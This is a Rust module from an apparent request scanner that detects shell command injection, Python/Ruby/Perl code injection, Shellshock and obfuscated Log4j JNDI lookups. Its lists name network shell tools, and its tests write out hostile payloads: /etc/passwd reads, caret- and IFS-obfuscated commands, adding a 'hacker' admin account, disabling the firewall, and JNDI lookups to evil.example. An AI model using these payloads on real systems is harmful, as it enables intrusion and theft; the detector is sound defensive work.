//! Remote code execution: OS command injection read with a small shell grammar (a command
//! position after a separator or inside a substitution, the command word unquoted and unescaped
//! as the shell would, then looked up among system commands), code injection into interpreters
//! (PHP, Python, Node.js, Java), Shellshock, and Log4j JNDI lookups with nested lookups resolved.

use std::sync::LazyLock;

use regex::Regex;

use crate::features::{
    Features, AMPERSAND, ANGLE, BACKTICK, BRACE, DOLLAR, NEWLINE, PAREN, PIPE, QUESTION, QUOTE,
    SEMICOLON, STAR,
};
use crate::finding::AttackKind;
use crate::scan::{Hit, Origin, Subject};

/// Commands that are not ordinary words: seeing one in a command position is enough.
const STRONG_COMMANDS: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "lua",
    "nslookup",
    "telnet",
    "nmap",
    "chmod",
    "chown",
    "chgrp",
    "useradd",
    "usermod",
    "sudo",
    "crontab",
    "systeminfo",
    "tasklist",
    "taskkill",
    "powershell",
    "pwsh",
    "cmd",
    "certutil",
    "bitsadmin",
    "wmic",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "traceroute",
    "tracert",
    "hostname",
    "pwd",
    "ls",
    "base64",
    "xxd",
    "mkfifo",
    "mknod",
    "busybox",
    "nohup",
    "awk",
    "gawk",
    "sed",
    "egrep",
    "xargs",
    "lsb_release",
    "getent",
    "printenv",
    "killall",
    "pkill",
    "iptables",
    "tftp",
    "scp",
    "rmdir",
    "mkdir",
    "uptime",
    "ifup",
    "arp",
    "dig",
    "host",
    "nproc",
    "lscpu",
    "lsof",
    "ulimit",
    "fgrep",
    "grep",
    "printf",
    "sysctl",
    "openssl",
    "gcc",
    "cc",
    "make",
    "apt",
    "yum",
    "pip",
    "npm",
    "java",
    "jrunscript",
    "net1",
    "netsh",
    "vssadmin",
    "schtasks",
    "icacls",
    "findstr",
    "attrib",
    "cacls",
    "rsync",
    "tcpdump",
    "strace",
    "ltrace",
    "objdump",
    "readelf",
    "chattr",
    "lsattr",
    "visudo",
    "userdel",
    "groupadd",
    "smbclient",
    "rpcclient",
    "mysql",
    "psql",
    "sqlite3",
    "redis-cli",
    "nodejs",
    "irb",
    "jshell",
    "tclsh",
    "nawk",
    "mawk",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "base32",
    "uuencode",
    "uudecode",
    "gpg",
    "zcat",
    "bzcat",
    "xzcat",
    "zgrep",
    "bzip2",
    "7z",
    "unrar",
    "cpio",
    "dpkg",
    "rpm",
    "apt-get",
    "docker",
    "kubectl",
    "journalctl",
    "dmesg",
    "lsmod",
    "insmod",
    "rmmod",
    "modprobe",
    "nft",
    "ufw",
    "masscan",
    "hping3",
    "ping6",
    "lastlog",
    "hostnamectl",
    "setsid",
    "chroot",
    "unshare",
    "nsenter",
    "capsh",
    "setcap",
    "getcap",
    "rbash",
    "toybox",
    "hexdump",
    "tac",
    "readlink",
    "realpath",
    "mktemp",
    "shred",
    "fallocate",
    "mkswap",
    "mkfs",
    "fdisk",
    "umount",
    "losetup",
    "lsblk",
    "blkid",
    "htop",
    "pstree",
    "pgrep",
    "renice",
    "doas",
    "pkexec",
    "runuser",
    "chpasswd",
    "bcdedit",
    "takeown",
    "runas",
    "msiexec",
    "forfiles",
    "wevtutil",
    "ntdsutil",
    "diskpart",
    "fsutil",
    "nltest",
    "dsquery",
    "qwinsta",
    "quser",
    "getmac",
    "nbtstat",
    "driverquery",
    "xcopy",
    "robocopy",
    "wsl",
    "nc.traditional",
    "ncat",
    "telnetd",
    "fetch",
    "lynx",
    "w3m",
    "aria2c",
    "sshpass",
    "ssh-keygen",
    "whoami",
];

/// Commands that are also English or everyday words: they count only with an argument shaped
/// like a shell argument (an option, a path, a number, a variable) or at the very end.
const WEAK_COMMANDS: &[&str] = &[
    "id",
    "cat",
    "head",
    "tail",
    "more",
    "less",
    "sort",
    "find",
    "kill",
    "time",
    "date",
    "echo",
    "sleep",
    "ping",
    "touch",
    "rm",
    "cp",
    "mv",
    "dd",
    "od",
    "tr",
    "cut",
    "tee",
    "who",
    "w",
    "last",
    "which",
    "whereis",
    "env",
    "set",
    "export",
    "type",
    "dir",
    "copy",
    "del",
    "ver",
    "start",
    "ps",
    "ip",
    "su",
    "ssh",
    "ftp",
    "passwd",
    "reboot",
    "shutdown",
    "halt",
    "file",
    "strings",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "eval",
    "exec",
    "source",
    "expr",
    "history",
    "groups",
    "systemctl",
    "service",
    "sc",
    "reg",
    "timeout",
    "wait",
    "stat",
    "locate",
    "whois",
    "finger",
    "users",
    "route",
    "mount",
    "df",
    "du",
    "free",
    "top",
    "nl",
    "rev",
    "fold",
    "net",
    "ln",
    "wc",
    "uniq",
    "diff",
    "paste",
    "split",
    "watch",
    "screen",
    "nice",
    "ss",
    "dash",
    "ash",
    "fish",
    "alias",
    "declare",
    "rd",
    "md",
    "ren",
    "move",
    "erase",
    "tree",
    "where",
    "assoc",
    "cls",
    "chcp",
    "logoff",
    "query",
    "chdir",
    "pushd",
    "popd",
];

/// Windows administration commands are everyday words; with one of their sub-commands after
/// them they are unmistakable (`net user`, `reg add`, `sc query`).
const SUB_COMMANDS: &[(&str, &[&str])] = &[
    (
        "net",
        &[
            "user",
            "users",
            "localgroup",
            "group",
            "view",
            "share",
            "use",
            "start",
            "stop",
            "accounts",
            "session",
        ],
    ),
    (
        "reg",
        &["add", "query", "delete", "save", "export", "import", "load"],
    ),
    (
        "sc",
        &["query", "create", "config", "start", "stop", "delete", "qc"],
    ),
];

fn has_sub_command(command: &str, text: &str, after_word: usize) -> bool {
    let Some((_, subs)) = SUB_COMMANDS.iter().find(|(name, _)| *name == command) else {
        return false;
    };
    let next = text[after_word..]
        .trim_start_matches([' ', '\t'])
        .split(|character: char| !character.is_ascii_alphanumeric())
        .next()
        .unwrap_or("");
    subs.iter().any(|sub| next.eq_ignore_ascii_case(sub))
}

static SHELLSHOCK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:^|['"=\s])\(\s*\)\s*\{[^}]{0,40}\}\s*;|^\s*\(\s*\)\s*\{"#)
        .expect("static rce rule compiles")
});

static IFS_OR_BRACE_EXPANSION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"\$\{IFS[^}]*\}|\$IFS\b|\$\{[A-Za-z_]\w{0,20}:-?\d+(?::-?\d+)?\}|\{[a-zA-Z/._-]{1,20},[^}\s]*\}|/\?{2,}/|/(?:b[?*]n|u[?*]r)/",
    )
    .expect("static rce rule compiles")
});

/// Code evaluation and process spawning of Python, Ruby and Perl (PHP, Node.js and Java have
/// their own modules).
static CODE_INJECTION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)__import__\s*\(|\bos\.(?:system|popen|exec[lv]p?e?|spawn\w*)\s*\(|\bsubprocess\.(?:call|run|popen|check_output|check_call|getoutput)\s*\(|\bio\.popen\s*\(|\bkernel\.(?:system|exec|spawn)\b|\bopen3\.(?:popen\d?|capture\w*)|\bpty\.spawn\s*\(|\bsocket\.socket\s*\(|\bcommands\.getoutput\s*\("#,
    )
    .expect("static rce rule compiles")
});

/// Both command lists, sorted for binary search: this lookup runs after every separator.
static COMMANDS: LazyLock<Vec<(&'static str, bool)>> = LazyLock::new(|| {
    let mut commands: Vec<(&'static str, bool)> = STRONG_COMMANDS
        .iter()
        .map(|command| (*command, true))
        .chain(WEAK_COMMANDS.iter().map(|command| (*command, false)))
        .collect();
    commands.sort_unstable();
    commands.dedup_by(|later, earlier| later.0 == earlier.0);
    commands
});

/// `Some(true)` for a strong command, `Some(false)` for a weak one, `None` for other words.
fn is_command(word: &str) -> Option<bool> {
    if word.is_empty() || word.len() > 16 {
        return None;
    }
    COMMANDS
        .binary_search_by(|(command, _)| (*command).cmp(word))
        .ok()
        .map(|index| COMMANDS[index].1)
}

/// Skips blanks and the shell's tricks for writing one (`${IFS}`, `$IFS$9`) from `at`.
fn skip_blanks(text: &str, mut at: usize) -> usize {
    let bytes = text.as_bytes();
    loop {
        while at < bytes.len() && matches!(bytes[at], b' ' | b'\t' | b'\r' | b'\n' | b'{' | b'(') {
            at += 1;
        }
        let rest = &text[at..];
        if let Some(after) = rest.strip_prefix("${IFS}") {
            at = text.len() - after.len();
            continue;
        }
        if let Some(after) = rest.strip_prefix("$IFS") {
            at = text.len() - after.len();
            if text[at..].starts_with('$')
                && text[at + 1..].starts_with(|c: char| c.is_ascii_digit())
            {
                at += 2;
            }
            continue;
        }
        return at;
    }
}

/// A command word as the shell would see it, kept on the stack: this runs after every separator
/// of every value that has one.
struct Word {
    bytes: [u8; 64],
    length: usize,
}

impl Word {
    fn push(&mut self, byte: u8) {
        if self.length < self.bytes.len() {
            self.bytes[self.length] = byte;
            self.length += 1;
        }
    }

    fn full(&self) -> &str {
        std::str::from_utf8(&self.bytes[..self.length]).unwrap_or("")
    }

    /// The word without its directory and a `.exe` suffix.
    fn base(&self) -> &str {
        let full = self.full();
        let base = full.rsplit('/').next().unwrap_or(full);
        base.strip_suffix(".exe").unwrap_or(base)
    }

    fn is_empty(&self) -> bool {
        self.length == 0
    }
}

/// The command word at `at` (quotes, backslashes and empty expansions removed, lowercased),
/// whether it was disguised, and where it ends.
fn command_word(text: &str, at: usize) -> (Word, bool, usize) {
    let bytes = text.as_bytes();
    let mut word = Word {
        bytes: [0; 64],
        length: 0,
    };
    let mut disguised = false;
    let mut index = at;
    while index < bytes.len() {
        let byte = bytes[index];
        match byte {
            b' ' | b'\t' | b'\r' | b'\n' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')'
            | b'{' | b'}' | b',' => break,
            // `\n`, `\r`, `\t` written out: many applications unescape them into the real thing.
            b'\\' if matches!(bytes.get(index + 1), Some(b'n' | b'r' | b't')) => break,
            b'\'' | b'"' | b'\\' => {
                disguised = true;
                index += 1;
            }
            b'$' if text[index..].starts_with("$@") || text[index..].starts_with("$*") => {
                disguised = true;
                index += 2;
            }
            // An unset variable expands to nothing: `c${u}at`, `c$1at`.
            b'$' if bytes.get(index + 1).is_some_and(u8::is_ascii_digit) => {
                disguised = true;
                index += 2;
            }
            b'$' if bytes.get(index + 1) == Some(&b'{') && !text[index..].starts_with("${IFS") => {
                match text[index..].find('}') {
                    Some(close) if close <= 24 => {
                        disguised = true;
                        index += close + 1;
                    }
                    _ => break,
                }
            }
            // cmd.exe's escape character: `w^h^o^a^m^i`, `^whoami`.
            b'^' => {
                disguised = true;
                index += 1;
            }
            b'`' => break,
            _ => {
                word.push(byte.to_ascii_lowercase());
                index += 1;
            }
        }
        if word.length == word.bytes.len() {
            break;
        }
    }
    (word, disguised, index)
}

/// A Windows drive at the start of an argument: `C:\`, `c:/`, or `c:` alone.
fn is_drive(bytes: &[u8]) -> bool {
    bytes.len() >= 2
        && bytes[0].is_ascii_alphabetic()
        && bytes[1] == b':'
        && bytes.get(2).is_none_or(|next| {
            matches!(
                next,
                b'\\' | b'/' | b'"' | b'\'' | b' ' | b'|' | b'&' | b';'
            )
        })
}

/// System tools no prose or form value starts with: with any argument after them the value is a
/// command line. (Everyday tools such as `curl`, `chmod` or `sudo` need an argument shaped like
/// a shell's: "curl tutorial" is a search.)
const UNMISTAKABLE: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "netstat",
    "tasklist",
    "taskkill",
    "netsh",
    "wmic",
    "certutil",
    "bitsadmin",
    "schtasks",
    "vssadmin",
    "icacls",
    "cacls",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "nslookup",
    "useradd",
    "usermod",
    "userdel",
    "crontab",
    "ncat",
    "netcat",
    "socat",
    "busybox",
    "mkfifo",
    "lsb_release",
    "printenv",
    "getent",
    "iptables",
    "msiexec",
    "bcdedit",
    "takeown",
    "wevtutil",
    "ntdsutil",
    "nltest",
    "dsquery",
    "net1",
    "getmac",
    "nbtstat",
    "driverquery",
];

/// Of those, the ones that are a probe even alone, as a whole value.
const ALONE: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "tasklist",
    "netstat",
];

/// Tools that probe a host: with an address after them they are a command (`ping 127.0.0.1`).
const HOST_PROBES: &[&str] = &[
    "ping",
    "ping6",
    "traceroute",
    "tracert",
    "nslookup",
    "dig",
    "host",
    "telnet",
    "nc",
    "whois",
];

/// True when what follows a weak command looks like a shell argument, or nothing follows.
fn has_shell_argument(text: &str, after_word: usize) -> bool {
    let rest = text[after_word..].trim_start_matches([' ', '\t']);
    let bytes = rest.as_bytes();
    if is_drive(bytes) {
        return true;
    }
    match rest.bytes().next() {
        None => true,
        Some(first) => matches!(
            first,
            b'-' | b'/'
                | b'.'
                | b'~'
                | b'%'
                | b'#'
                | b'$'
                | b'\''
                | b'"'
                | b'\\'
                | b'`'
                | b';'
                | b'|'
                | b'&'
                | b'>'
                | b'<'
                | b'\n'
                | b'\r'
                | b'0'..=b'9'
        ),
    }
}

/// Byte offsets where the shell would start reading a command: after `;`, `|`, `||`, `&`,
/// `&&`, a newline, `$(` and an opening backtick.
fn command_positions(text: &str) -> impl Iterator<Item = (usize, u8)> + '_ {
    let bytes = text.as_bytes();
    let mut backticks = 0usize;
    bytes.iter().enumerate().filter_map(move |(index, byte)| {
        let position = index + 1;
        match byte {
            b';' | b'|' | b'&' | b'\n' | b'\r' => Some((position, *byte)),
            b'n' | b'r' if index > 0 && bytes[index - 1] == b'\\' => Some((position, b'\n')),
            b'(' if index > 0 && matches!(bytes[index - 1], b'$' | b'<' | b'>') => {
                Some((position, b'$'))
            }
            b'`' => {
                backticks += 1;
                (backticks % 2 == 1).then_some((position, b'`'))
            }
            _ => None,
        }
    })
}

/// Directories of system binaries: a value that starts by running one is a command.
const BINARY_DIRECTORIES: &[&str] = &[
    "/bin/",
    "/sbin/",
    "/usr/bin/",
    "/usr/sbin/",
    "/usr/local/bin/",
];

/// A value that is itself a command line: a binary by its full path (also with wildcards,
/// `/???/c?t`), a system tool with an option, path or URL argument (`curl http://...`,
/// `nc -e`), or an everyday command with an argument only a shell takes (`cat /etc/passwd`,
/// `dir c:\`, `ls -la`).
fn command_at_start(text: &str) -> Option<Hit> {
    let start = text.len() - text.trim_start().len();
    let rest = &text[start..];
    if rest.starts_with('/') {
        let (word, _, end) = command_word(text, start);
        if BINARY_DIRECTORIES
            .iter()
            .any(|directory| rest.starts_with(directory))
            && is_command(word.base()).is_some()
        {
            return Some(Hit::new(AttackKind::Rce, "rce.shell-command", start, end));
        }
        if is_wildcard_binary(word.full()) {
            return Some(Hit::new(
                AttackKind::Rce,
                "rce.shell-obfuscation",
                start,
                end,
            ));
        }
    }
    let (word, _, end) = command_word(text, start);
    let strong = is_command(word.base())?;
    let hit = || Some(Hit::new(AttackKind::Rce, "rce.shell-command", start, end));
    let base = word.base();
    let rest = text[end..].trim_end();
    // Carets inside a command word are cmd.exe escapes; no prose writes `w^h^o^a^m^i`.
    if text[start..end].trim_start_matches('^').contains('^') {
        return hit();
    }
    let alone = rest.is_empty() && ALONE.contains(&base);
    if alone || UNMISTAKABLE.contains(&base) && rest.starts_with([' ', '\t']) {
        return hit();
    }
    // A command chained to nothing or to another command: `id;`, `ls|`, `id;uname`.
    if rest.starts_with([';', '|', '`']) || rest.starts_with("&&") {
        let next = skip_blanks(
            text,
            end + rest.len() - rest.trim_start_matches([';', '|', '`', '&']).len(),
        );
        let (next_word, _, _) = command_word(text, next);
        if next >= text.trim_end().len() || is_command(next_word.base()).is_some() {
            return hit();
        }
    }
    if end >= text.len() || !matches!(text.as_bytes()[end], b' ' | b'\t') {
        return None;
    }
    if has_sub_command(base, text, end) {
        return hit();
    }
    let argument = text[end..].trim_start();
    if HOST_PROBES.contains(&base) && is_address_argument(argument) {
        return hit();
    }
    if base == "sleep" && !argument.is_empty() && argument.bytes().all(|byte| byte.is_ascii_digit())
    {
        return hit();
    }
    let option = argument.starts_with('-')
        && argument[1..].starts_with(|c: char| c.is_ascii_alphabetic() || c == '-');
    let url = argument.contains("://");
    let drive = is_drive(argument.as_bytes());
    let switch = argument.starts_with('/')
        && argument[1..].starts_with(|c: char| c.is_ascii_alphabetic())
        && argument[1..]
            .split([' ', '\t'])
            .next()
            .is_some_and(|word| word.len() <= 2);
    let system_path = [
        "/etc/", "/bin/", "/usr/", "/var/", "/tmp/", "/dev/", "/proc/", "/root", "/home/", "/opt/",
        "/sys/", "~/", "./", "../",
    ]
    .iter()
    .any(|prefix| argument.starts_with(prefix));
    let shell_shaped = if strong {
        option || url || argument.starts_with('/') || drive
    } else {
        // Everyday words need an argument prose does not have.
        (option && !argument.starts_with("--")) || drive || switch || system_path
    };
    shell_shaped.then(|| Hit::new(AttackKind::Rce, "rce.shell-command", start, end))
}

/// An IPv4 address or a host name with a dot, alone or with options: what a probe's target looks like.
fn is_address_argument(argument: &str) -> bool {
    let target = argument
        .split([' ', '\t'])
        .find(|word| {
            !word.starts_with('-') && !word.is_empty() && !word.bytes().all(|b| b.is_ascii_digit())
        })
        .unwrap_or("");
    let ipv4 = target.split('.').count() == 4
        && target.split('.').all(|octet| {
            !octet.is_empty() && octet.len() <= 3 && octet.bytes().all(|b| b.is_ascii_digit())
        });
    ipv4 || target == "localhost"
}

/// `/???/c?t`, `/b*n/ca?`, `/usr/bin/wh??mi`: a path of two or more directories with a
/// wildcard, which the shell expands to a binary.
fn is_wildcard_binary(word: &str) -> bool {
    let segments: Vec<&str> = word.split('/').skip(1).collect();
    segments.len() >= 2
        && word.contains(['?', '*'])
        && !word.contains(['=', '&', '.'])
        && segments.iter().all(|segment| {
            !segment.is_empty()
                && segment.len() <= 12
                && segment.bytes().all(|byte| {
                    byte.is_ascii_lowercase()
                        || byte.is_ascii_digit()
                        || matches!(byte, b'?' | b'*' | b'[' | b']' | b'-')
                })
        })
}

/// Values of letters, digits and harmless marks: a system tool alone or with an option
/// (`whoami`, `uname -a`, `ping 127.0.0.1`).
pub(crate) fn plain_value(text: &str) -> Option<Hit> {
    if text.len() > 256 || !text.starts_with(|c: char| c.is_ascii_alphabetic() || c == ' ') {
        return None;
    }
    command_at_start(text)
}

/// A variable run as the command after it was assigned in the same value (`CMD=$'id';$CMD`,
/// `a="who"; b="ami"; $a$b`): the command word hidden in a variable. Returns where the
/// expansion ends.
fn assigned_variable_run(text: &str, start: usize) -> Option<usize> {
    let rest = text[start..].strip_prefix('$')?;
    let rest = rest.strip_prefix('{').unwrap_or(rest);
    let name_length = rest
        .bytes()
        .take_while(|byte| byte.is_ascii_alphanumeric() || *byte == b'_')
        .count();
    let name = &rest[..name_length];
    if name.is_empty()
        || name
            .bytes()
            .next()
            .is_some_and(|byte| byte.is_ascii_digit())
        || name == "IFS"
    {
        return None;
    }
    let end = start + 1 + name_length + usize::from(text[start + 1..].starts_with('{'));
    // Two expansions glued into one word (`$a$b`) build a name; one alone must hold a command.
    let glued = text[end..].trim_start_matches('}').starts_with('$');
    let holds_command = |at: usize| {
        let value_start = at + name.len() + 1;
        let value = text[value_start..].trim_start_matches('$');
        let offset = text.len() - value.len();
        let (word, _, _) = command_word(text, offset);
        is_command(word.base()).is_some()
    };
    let assigned = text[..start].match_indices(name).any(|(at, _)| {
        let bytes = text.as_bytes();
        let before_ok = at == 0 || !bytes[at - 1].is_ascii_alphanumeric() && bytes[at - 1] != b'_';
        before_ok && text[at + name.len()..].starts_with('=') && (glued || holds_command(at))
    });
    assigned.then_some(end)
}

fn shell_command(text: &str) -> Option<Hit> {
    for (position, separator) in command_positions(text) {
        let start = skip_blanks(text, position);
        if start >= text.len() {
            continue;
        }
        if let Some(end) = assigned_variable_run(text, start) {
            return Some(Hit::new(
                AttackKind::Rce,
                "rce.shell-obfuscation",
                position.saturating_sub(1),
                end,
            ));
        }
        let (word, disguised, end) = command_word(text, start);
        if word.is_empty() {
            continue;
        }
        let substitution = matches!(separator, b'$' | b'`');
        let wildcard_path = word.full().contains(['?', '*']) && text[start..end].contains('/');
        if wildcard_path {
            return Some(Hit::new(
                AttackKind::Rce,
                "rce.shell-obfuscation",
                start,
                end,
            ));
        }
        let Some(strong) = is_command(word.base()) else {
            continue;
        };
        // A lone `&` between words is prose ("Tom & Jerry"); weak commands after it need more.
        let prose_ampersand = separator == b'&'
            && text.as_bytes().get(position) == Some(&b' ')
            && position >= 2
            && text.as_bytes()[position - 2] == b' ';
        let counts = strong
            || (!prose_ampersand && has_shell_argument(text, end))
            || substitution
            || has_sub_command(word.base(), text, end);
        if !counts {
            continue;
        }
        let rule = if substitution {
            "rce.shell-substitution"
        } else if disguised {
            "rce.shell-obfuscation"
        } else {
            "rce.shell-command"
        };
        return Some(Hit::new(
            AttackKind::Rce,
            rule,
            position.saturating_sub(1),
            end,
        ));
    }
    None
}

/// Resolves Log4j's nested lookups innermost first (`${lower:j}` → `j`, `${::-n}` → `n`,
/// `${env:X:-d}` → `d`) and reports where a `jndi:` lookup appears.
fn log4j_lookup(text: &str) -> Option<Hit> {
    let start = text.find("${")?;
    let mut current = text[start..].to_string();
    for _ in 0..64 {
        let Some(open) = innermost_lookup(&current) else {
            break;
        };
        let close = match current[open + 2..].find('}') {
            Some(offset) => open + 2 + offset,
            None => break,
        };
        let content = &current[open + 2..close];
        let lowered = content.to_ascii_lowercase();
        if lowered.trim_start().starts_with("jndi:") {
            return Some(Hit::new(
                AttackKind::Rce,
                "rce.log4j-jndi",
                start,
                text.len(),
            ));
        }
        let value = lookup_value(content);
        current.replace_range(open..=close, &value);
    }
    let lowered = current.to_ascii_lowercase();
    lowered
        .contains("jndi:")
        .then(|| Hit::new(AttackKind::Rce, "rce.log4j-jndi", start, text.len()))
}

/// The last `${` before the first `}`: a lookup with no lookup inside it.
fn innermost_lookup(text: &str) -> Option<usize> {
    let first_close = text.find('}')?;
    text[..first_close].rfind("${")
}

fn lookup_value(content: &str) -> String {
    if let Some((_, default)) = content.split_once(":-") {
        return default.to_string();
    }
    let Some((prefix, argument)) = content.split_once(':') else {
        return String::new();
    };
    match prefix.trim().to_ascii_lowercase().as_str() {
        "lower" | "upper" | "date" | "main" | "sys" | "env" | "ctx" | "map" | "sd" | "web"
        | "docker" | "k8s" | "spring" | "bundle" | "log4j" | "java" | "marker" => {
            argument.trim_matches('\'').to_string()
        }
        _ => String::new(),
    }
}

const SHELL_SIGNS: u32 =
    SEMICOLON | PIPE | AMPERSAND | NEWLINE | BACKTICK | DOLLAR | BRACE | QUESTION | STAR;

pub(crate) fn detect(subject: &Subject<'_>) -> Option<Hit> {
    let text = subject.text;
    let features: Features = subject.features;
    if text.len() < 2 {
        return None;
    }
    if features.has(DOLLAR) && features.has(BRACE) {
        if let Some(hit) = log4j_lookup(text) {
            return Some(hit);
        }
    }
    if features.has(PAREN) && features.has(BRACE) {
        if let Some(found) = SHELLSHOCK.find(text) {
            return Some(Hit::over(AttackKind::Rce, "rce.shellshock", found.range()));
        }
    }
    if subject.origin != Origin::Header {
        if let Some(hit) = command_at_start(text) {
            return Some(hit);
        }
    }
    if features.has(SHELL_SIGNS)
        || text.contains('\\')
        || text.contains("<(")
        || text.contains(">(")
    {
        if let Some(hit) = shell_command(text) {
            return Some(hit);
        }
        if features.has(DOLLAR | BRACE | QUESTION | STAR) {
            if let Some(found) = IFS_OR_BRACE_EXPANSION.find(text) {
                return Some(Hit::over(
                    AttackKind::Rce,
                    "rce.shell-obfuscation",
                    found.range(),
                ));
            }
        }
    }
    let code_signs = if subject.origin == Origin::Header {
        features.has(PAREN) && features.has(QUOTE | DOLLAR)
    } else {
        features.has(PAREN | DOLLAR | ANGLE)
    };
    if code_signs {
        if let Some(found) = CODE_INJECTION.find(text) {
            return Some(Hit::over(
                AttackKind::Rce,
                "rce.code-injection",
                found.range(),
            ));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::check;

    #[test]
    fn command_injection_is_found() {
        check(
            detect,
            &[
                ";id",
                "a|id|",
                "127.0.0.1 && whoami",
                "x; cat /etc/passwd",
                "%0Aid",
                "$(sleep 5)",
                "`uname -a`",
                "1;c'a't${IFS}/etc/passwd",
                ";{cat,/etc/passwd}",
                "|/usr/bin/id",
                "; /???/??t /etc/passwd",
                "|| ping -c 10 127.0.0.1",
                "() { :;}; /bin/bash -c \"id\"",
                "${jndi:ldap://evil.example/a}",
                "${${lower:j}ndi:${lower:l}dap://x}",
                "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
                "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
                "__import__('os').system('id')",
                "Y2F0IC9ldGMvcGFzc3dk; ls -la",
                "| net user hacker Password1 /ADD",
                "& reg add HKLM\\System /v x",
                "; netsh firewall set opmode disable",
                "whoami",
                "cat /etc/passwd",
                "ls -la",
                "uname -a",
                "dir c:\\",
                " | dir c:",
                "^whoami",
                "w^h^o^a^m^i",
                "c${u}at /etc/passwd",
                "ping 127.0.0.1",
                "sleep 5",
                "net user hacker Password1 /ADD",
                "id;",
                "/???/c?t /etc/passwd",
                "() { ignored; }; echo",
                "' ; id #",
                "CMD=$'id';$CMD",
                "^p^o^w^e^r^s^h^e^l^l",
                ";a=\"who\";b=\"ami\";$a$b",
                "<(id)",
                ";${HOME:0:1}etc${HOME:0:1}passwd",
            ],
            &[
                "Tom & Jerry",
                "salt & pepper; cat food",
                "cats; dogs",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
                "$(document).ready(function() { init(); })",
                "price: $100 | discount: 10%",
                "rock & roll",
                "see you at 5; date night",
                "Q&A session",
                "{\"price\": \"$5\"}",
                "What's the time? Who knows",
                "${user.name} placeholder",
                "profit; net income rose",
                "I'd like to update my profile; where do I go?",
                "find out more",
                "sort by date",
                "time to go",
                "ping me later",
                "who am I?",
                "echo chamber",
                "sleep well",
                "cat lovers welcome",
                "the path is /usr/local/share/doc",
                "hostname",
                "uname",
                "curl tutorial",
                "chmod 755 explained",
                "sudo make me a sandwich",
                "wget",
                "cat|dog",
                "price=5; $price off",
                "total=$5; $total",
            ],
        );
    }
}
